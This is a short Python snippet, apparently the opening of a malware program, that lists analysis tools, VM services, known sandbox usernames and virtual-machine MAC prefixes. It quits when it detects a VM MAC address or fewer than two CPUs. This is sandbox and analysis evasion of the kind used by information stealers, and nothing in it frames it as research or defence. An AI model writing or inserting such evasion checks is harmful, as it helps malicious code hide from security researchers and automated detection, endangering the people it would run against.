import uuid
import sys
import os

TOOLS = ["wireshark", "x64dbg", "processhacker", "fiddler", "vboxservice", "vmtoolsd", "ksdumper", "procmon"]
USERS = ["WDAGUtilityAccount", "hmarc", "patex", "RDhJ0CNFevzX", "kEecfMwgj"]
MACS = ["00:05:69", "00:0c:29", "08:00:27", "00:50:56"]
if ":".join(f"{uuid.getnode():012x}"[i:i + 2] for i in (0, 2, 4)) in MACS:
    sys.exit()
if os.cpu_count() < 2:
    sys.exit()
